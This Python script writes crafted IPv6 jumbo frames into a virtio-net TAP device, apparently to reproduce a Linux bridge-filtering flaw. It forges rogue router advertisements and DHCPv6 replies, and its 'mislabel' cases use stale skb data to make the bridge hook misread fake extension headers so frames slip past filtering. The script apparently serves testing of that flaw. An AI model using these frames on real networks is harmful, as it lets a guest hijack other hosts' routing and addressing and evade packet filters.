#!/usr/bin/python3
"""Writes IPv6 jumbo frames into a tap the way a guest's virtio-net does.

Usage: tap_jumbo.py TAP   (then, per line on stdin: KIND SRC_MAC SRC DST HDR_LEN COUNT)

Opens TAP (IFF_TAP | IFF_NO_PI | IFF_VNET_HDR, created if missing), prints
"ready", and for each stdin line writes COUNT frames of KIND:
  ra     a 5000-byte router advertisement (prefix 2001:db8:bad::/64)
  dhcp   a 5000-byte DHCPv6 reply, UDP 547 -> 546
  udp    a 5000-byte UDP datagram, 40000 -> 9
  hbh_ra the RA behind a hop-by-hop options header
  hbh_udp the UDP datagram behind a hop-by-hop options header
  hbh_mld a small MLDv2 report behind the 8-byte Router Alert hop-by-hop header
  mislabel_frag, mislabel_ah  the RA behind hop-by-hop and destination options
         whose hop-by-hop option data holds fake headers, each frame right
         after a small frame whose first next header is 44 (fragment) or 51
         (AH): written with a small HDR_LEN, the jumbo's skb head reuses that
         frame's, the bridge hook's walk reads its stale first next header and
         takes the fake headers for the chain (a guest can do this)
each behind a virtio-net header whose hdr_len is HDR_LEN. Frames larger than
a page with a small hdr_len leave the IPv6 header in the skb's page
fragments (tun_get_user), as a guest can. Prints "sent N" per line.
"""
import fcntl
import os
import socket
import struct
import sys

from ip6frame import l4_with_sum

TUNSETIFF = 0x400454CA
IFF_TAP, IFF_NO_PI, IFF_VNET_HDR = 0x0002, 0x1000, 0x4000



def padding_options(length):  # unknown ND options (type 200): receivers skip them
    out = b""
    while length > 0:
        n = min(length, 2040)
        out += bytes([200, n // 8]) + b"\0" * (n - 2)
        length -= n
    return out


def frame(kind, src_mac, src, dst):
    size = 5000
    if kind in ("ra", "hbh_ra"):
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
        body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0)
        body += bytes.fromhex("20010db80bad00000000000000000000")
        pad = size - len(body)
        body += padding_options(pad - pad % 8)
        proto, csum_at = 58, 2
    elif kind == "dhcp":
        payload = b"\x07" + b"\0" * (size - 9)
        body = struct.pack("!HHHH", 547, 546, 8 + len(payload), 0) + payload
        proto, csum_at = 17, 6
    else:
        payload = b"\0" * (size - 8)
        body = struct.pack("!HHHH", 40000, 9, 8 + len(payload), 0) + payload
        proto, csum_at = 17, 6
    body = l4_with_sum(body, csum_at, proto, src, dst)
    next_header = proto
    if kind in ("hbh_ra", "hbh_udp"):  # router alert option, then the RA/UDP
        body = struct.pack("!BBBBBBBB", proto, 0, 5, 2, 0, 0, 1, 0) + body
        next_header = 0
    ip6 = struct.pack("!IHBB", 0x60000000, len(body), next_header, 255) + src + dst
    dst_mac = bytes.fromhex("333300000001") if dst[0] == 0xFF else bytes.fromhex("020000000002")
    return dst_mac + src_mac + b"\x86\xdd" + ip6 + body


def mislabel(kind, src_mac, src, dst):
    """The jumbo RA of mislabel_frag/mislabel_ah and its priming frame.

    Real chain: hop-by-hop (next: destination options) | destination options
    (PadN) | RA. An unknown skippable option (type 0x1e) fills the hop-by-hop
    header; its data holds, where a walk that took the first header for a
    fragment (8 bytes) or AH ((4 + 2) * 4 bytes) header lands, a fake
    destination options header (next: hop-by-hop) and a fake hop-by-hop
    header (next: TCP), so that walk finds hop-by-hop options and ends in
    "TCP" before the real RA.
    """
    ra = frame("ra", src_mac, src, dst)[14 + 40:]
    if kind == "mislabel_frag":  # hop-by-hop of 24 bytes; frag_off (42..43) 0
        first, fake_dst, fake_hbh = 44, 48, 56
        hbh = bytearray([60, 2, 0, 0, 0x1E, 18]) + bytearray(18)
    else:  # hop-by-hop of 40 bytes
        first, fake_dst, fake_hbh = 51, 64, 72
        hbh = bytearray([60, 4, 0x1E, 36]) + bytearray(36)
    hbh[fake_dst - 40:fake_dst - 38] = bytes([0, 0])  # next: hop-by-hop, 8 bytes
    hbh[fake_hbh - 40:fake_hbh - 38] = bytes([6, 0])  # next: TCP, 8 bytes
    body = bytes(hbh) + bytes([58, 0, 1, 4, 0, 0, 0, 0]) + ra
    ip6 = struct.pack("!IHBB", 0x60000000, len(body), 0, 255) + src + dst
    eth = bytes.fromhex("333300000001") + src_mac + b"\x86\xdd"
    prime = struct.pack("!BBHI", 17, 0, 8, 1) + b"\0" * 16  # a fragment / AH-sized header
    prime_ip6 = struct.pack("!IHBB", 0x60000000, len(prime), first, 64) + src + dst
    return eth + ip6 + body, eth + prime_ip6 + prime


def mld(src_mac, src, dst):
    report = struct.pack("!BBHHH", 143, 0, 0, 0, 0)  # MLDv2 report, no records
    hbh = bytes([58, 0, 5, 2, 0, 0, 1, 0])  # Router Alert, PadN
    report = l4_with_sum(report, 2, 58, src, dst)
    ip6 = struct.pack("!IHBB", 0x60000000, len(hbh + report), 0, 1) + src + dst
    return bytes.fromhex("333300000001") + src_mac + b"\x86\xdd" + ip6 + hbh + report


def main():
    fd = os.open("/dev/net/tun", os.O_RDWR)
    ifr = struct.pack("16sH", sys.argv[1].encode(), IFF_TAP | IFF_NO_PI | IFF_VNET_HDR)
    fcntl.ioctl(fd, TUNSETIFF, ifr)
    print("ready", flush=True)
    for line in sys.stdin:
        kind, mac, src, dst, hdr_len, count = line.split()
        mac, src = bytes.fromhex(mac.replace(":", "")), socket.inet_pton(socket.AF_INET6, src)
        dst = socket.inet_pton(socket.AF_INET6, dst)
        vnet = struct.pack("<BBHHHH", 0, 0, int(hdr_len), 0, 0, 0)
        prime = None
        if kind.startswith("mislabel_"):
            f, prime = mislabel(kind, mac, src, dst)
        elif kind == "hbh_mld":
            f = mld(mac, src, dst)
        else:
            f = frame(kind, mac, src, dst)
        for _ in range(int(count)):
            if prime is not None:  # linear (hdr_len 0), so its head is written
                os.write(fd, struct.pack("<BBHHHH", 0, 0, 0, 0, 0, 0) + prime)
            os.write(fd, vnet + f)
        print("sent", count, flush=True)


if __name__ == "__main__":
    main()
